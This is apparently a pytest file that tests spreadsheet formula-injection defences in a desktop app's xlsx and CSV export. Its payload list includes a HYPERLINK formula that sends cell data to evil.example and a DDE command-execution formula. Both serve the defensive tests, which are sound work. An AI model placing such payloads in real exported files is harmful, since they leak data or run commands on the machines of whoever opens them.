"""Formula injection: names are written as text into .xlsx and made inert for CSV (OWASP)."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import openpyxl
import pytest

from gaotai_desktop.files.csv_safety import inert_csv_text
from gaotai_desktop.files.xlsx_export import write_xlsx

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "=1+1",
    "+86 0936",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("name", DANGEROUS)
def test_xlsx_export_writes_text_never_formulas(tmp_path: Path, name: str) -> None:
    path = tmp_path / "out.xlsx"
    write_xlsx(path, ["企业名称", "起数"], [[name, 2]])
    xml = zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml
    ws = openpyxl.load_workbook(path).active
    assert ws["A2"].data_type == "s"
    assert ws["A2"].value == name.replace("\r", "\n") or ws["A2"].value == name
    assert ws["B2"].value == 2


def test_xlsx_export_header_is_text_too(tmp_path: Path) -> None:
    path = tmp_path / "out.xlsx"
    write_xlsx(path, ["=1+1"], [["x"]])
    assert "<f>" not in zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml").decode()


@pytest.mark.parametrize("name", DANGEROUS)
def test_inert_csv_text_prefixes_a_quote(name: str) -> None:
    assert inert_csv_text(name) == "'" + name


@pytest.mark.parametrize(
    ("value", "expected"),
    [("甲建筑公司", "甲建筑公司"), ("A=B", "A=B"), ("", ""), (None, ""), (-3, "-3"), (2, "2")],
)
def test_inert_csv_text_leaves_harmless_values(value: object, expected: str) -> None:
    assert inert_csv_text(value) == expected


def test_inert_csv_text_round_trips_through_csv() -> None:
    buf = io.StringIO()
    csv.writer(buf).writerow([inert_csv_text(v) for v in ['=A1,"x"', "普通"]])
    assert next(csv.reader(io.StringIO(buf.getvalue()))) == ['\'=A1,"x"', "普通"]
